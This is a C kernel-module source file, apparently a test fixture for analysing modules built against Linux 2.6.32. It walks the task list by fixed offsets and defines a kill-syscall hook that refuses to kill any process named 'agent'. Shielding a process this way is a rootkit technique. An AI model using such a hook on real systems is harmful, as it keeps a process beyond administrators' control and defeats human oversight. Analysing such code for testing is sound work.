/* A module of the founding one's layout for 2.6.32: a look-up that walks from current, a hook that calls it, and the same walk through helpers. */
typedef unsigned long u64;
#include "../../Support/module.h"
#define noinline __attribute__((noinline))
INFO(info_license, "license=Proprietary");
#ifdef NEW_KERNEL
INFO(info_vermagic, "vermagic=6.1.0-56-amd64 SMP preempt mod_unload modversions ");
#define per_cpu__current_task current_task
#else
INFO(info_vermagic, "vermagic=2.6.32-754.6.3.el6.x86_64 SMP mod_unload modversions ");
#endif
struct module { char data[0x260]; };
struct module __this_module __attribute__((section(".gnu.linkonce.this_module"), used)) = { { [0x18] = 'd', 'i', 'r', 'p', 'r', 'o' } };

struct list_head { struct list_head *next, *prev; };
struct task_struct {
	char before[0x450];
	struct list_head tasks;
	char between[0x4a8 - 0x460];
	int pid, tgid;
	char more[0x640 - 0x4b0];
	char comm[16];
};
extern struct task_struct *per_cpu__current_task;
static inline __attribute__((always_inline)) struct task_struct *get_current(void)
{
	struct task_struct *task;
	__asm__("movq %%gs:%P1, %0" : "=r"(task) : "p"(&per_cpu__current_task));
	return task;
}
#define next_task(p) ((struct task_struct *)((char *)*(struct list_head *volatile *)&(p)->tasks.next - 0x450))

int strcmp(const char *, const char *);
char *strncpy(char *, const char *, u64);
int printk(const char *, ...);
static long (*orig_kill)(int, int);

noinline int get_process_name(int pid, char *name)
{
	struct task_struct *start = get_current(), *p = start;
	do {
		p = next_task(p);
		if (p->pid == pid) {
			strncpy(name, p->comm, sizeof(p->comm));
			return 0;
		}
	} while (p != start);
	printk("no process %d\n", pid);
	return -3;
}

long new_sys_kill(int pid, int sig)
{
	char name[512];
	name[0] = 0;
	if (pid > 0)
		get_process_name(pid, name);
	if (!strcmp(name, "agent"))
		return -1;
	return orig_kill(pid, sig);
}

noinline struct task_struct *find_by_name(const char *name)
{
	struct task_struct *start = get_current(), *p = start;
	do {
		p = next_task(p);
		if (!strcmp(p->comm, name))
			return p;
	} while (p != start);
	return 0;
}

long pid_of(const char *name)
{
	struct task_struct *p = find_by_name(name);
	return p ? p->pid : -3;
}

/* A helper with a loop of its own, which ends. */
static noinline int matches(struct task_struct *p, int pid)
{
	int i, sum = 0;
	for (i = 0; i < 16; i++)
		sum += ((volatile char *)p->comm)[i];
	return p->pid == pid && sum;
}

noinline struct task_struct *find_slowly(int pid)
{
	struct task_struct *start = get_current(), *p = start;
	do {
		p = next_task(p);
		if (matches(p, pid))
			return p;
	} while (p != start);
	return 0;
}

long is_running(int pid)
{
	return find_slowly(pid) != 0;
}

long install(long (*kill)(int, int))
{
	orig_kill = kill;
	return (long)new_sys_kill;
}
